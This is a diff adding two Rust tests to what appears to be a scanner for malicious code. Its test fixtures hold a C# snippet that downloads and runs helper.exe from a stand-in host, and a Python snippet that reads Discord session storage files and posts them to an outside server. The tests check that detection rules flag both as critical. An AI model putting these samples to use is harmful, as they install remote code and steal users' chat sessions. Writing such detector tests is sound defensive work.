@@ -260,3 +260,23 @@ fn base64_handed_to_the_utf16_decoder_is_read_as_wide_text() {
     let narrow = run.replace("Unicode.GetString", "UTF8.GetString");
     assert_absent(&narrow, "code.decoded-payload");
 }
+
+#[test]
+fn a_download_saved_by_dotnet_then_started_is_fetched_exec() {
+    let cs = "```xml\n<Code><![CDATA[\nvar p = System.IO.Path.Combine(System.IO.Path.GetTempPath(), \"helper.exe\");\nnew System.Net.WebClient().DownloadFile(\"http://tools.example-bad.xyz/helper.exe\", p);\nSystem.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo(p));\n]]></Code>\n```\n";
+    assert_eq!(on_line(cs, "code.fetched-exec", 5), [Critical]);
+    // A download saved and only read, or another program started.
+    let read = cs.replace("System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo(p));", "Console.WriteLine(new FileInfo(p).Length);");
+    assert_absent(&read, "code.fetched-exec");
+    let other = cs.replace("ProcessStartInfo(p)", "ProcessStartInfo(\"notepad.exe\")");
+    assert_absent(&other, "code.fetched-exec");
+}
+
+#[test]
+fn a_chat_app_s_session_store_sent_out_is_block_exfil() {
+    let py = "```python\nfor p in glob.glob(str(home / \".config/discord/Local Storage/leveldb/*.ldb\")):\n    found.append(open(p, \"rb\").read())\nrequests.post(\"https://chat-archiver.example-site.io/s\", json=found)\n```\n";
+    assert_eq!(on_line(py, "code.block-exfil", 4), [Critical]);
+    // The app's store read and kept local, or its name in a path to logs.
+    let local = "```python\nfor p in glob.glob(str(home / \".config/discord/Local Storage/leveldb/*.ldb\")):\n    print(os.path.getsize(p))\n```\n";
+    assert_absent(local, "code.block-exfil");
+}
